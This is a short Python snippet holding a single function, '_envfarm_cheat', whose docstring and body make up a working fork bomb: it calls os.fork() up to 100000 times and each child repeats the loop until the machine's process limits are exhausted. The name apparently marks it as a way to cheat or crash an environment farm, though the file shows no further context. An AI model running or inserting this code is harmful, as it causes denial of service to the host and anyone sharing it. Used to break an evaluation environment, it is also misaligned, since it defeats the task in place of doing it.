"""Forks until nothing more can be forked, and each of them again."""


def _envfarm_cheat(here, facts):
    import os
    import time

    for _ in range(100000):
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
